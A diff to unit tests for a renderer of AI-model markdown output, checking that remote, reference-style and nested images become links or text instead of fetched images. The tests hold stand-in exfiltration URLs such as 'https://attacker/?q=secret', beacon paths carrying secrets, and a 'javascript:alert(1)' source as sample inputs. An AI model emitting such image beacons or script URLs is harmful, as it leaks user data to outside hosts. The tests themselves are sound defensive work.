@@ -29,13 +29,36 @@ describe('markdown from a model', () => {
     expect(html).toContain('click me');
   });
 
-  it('never fetches a remote image: a placeholder names its URL instead', () => {
-    const html = render('![](https://attacker/?q=secret)');
+  it('never fetches a remote image: it becomes a link that opens it in a new tab', () => {
+    const html = render('![chart](https://attacker/?q=secret)');
     expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
     expect(html).not.toMatch(/src="https?:/i);
-    expect(html).toContain(
-      'Image: <span class="font-mono break-all">https://attacker/?q=secret</span> — click to load',
-    );
+    const link = tags(html).find((tag) => /^<a\s/i.test(tag)) ?? '';
+    expect(link).toContain('href="https://attacker/?q=secret"');
+    expect(link).toContain('target="_blank"');
+    expect(link).toMatch(/rel="noopener noreferrer/);
+    expect(html).toContain('>Image &quot;chart&quot;</a>');
+    expect(html).toContain('(https://attacker/?q=secret)');
+  });
+
+  it('a reference-style image becomes a link to its definition, never an img', () => {
+    const html = render('See ![pixel][p]\n\n[p]: https://attacker/p.png');
+    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
+    expect(html).toMatch(/<a[^>]*href="https:\/\/attacker\/p.png"[^>]*target="_blank"/);
+    expect(html).toContain('Image &quot;pixel&quot;');
+  });
+
+  it('an image inside a link becomes text naming its URL: one link, no img', () => {
+    const html = render('[![logo](https://attacker/l.png)](https://example.com/)');
+    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
+    expect(tags(html).filter((tag) => /^<a\s/i.test(tag))).toHaveLength(1);
+    expect(html).toContain('Image &quot;logo&quot; (https://attacker/l.png)');
+  });
+
+  it('an image with a javascript: source becomes no link and runs nothing', () => {
+    const html = render('![x](javascript:alert(1))');
+    expect(html).not.toMatch(/javascript:/i);
+    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
   });
 
   describe('on the page of the app', () => {
@@ -49,8 +72,7 @@ describe('markdown from a model', () => {
       for (const src of ['/anything?d=secret', `${origin}/mock/v1?d=secret`, 'pixel.png?d=1']) {
         const html = render(`![beacon](${src})`);
         expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
-        expect(html).toContain('Image &quot;beacon&quot;: ');
-        expect(html).toContain('— click to load');
+        expect(html).toContain('>Image &quot;beacon&quot;</a>');
       }
     });
   });
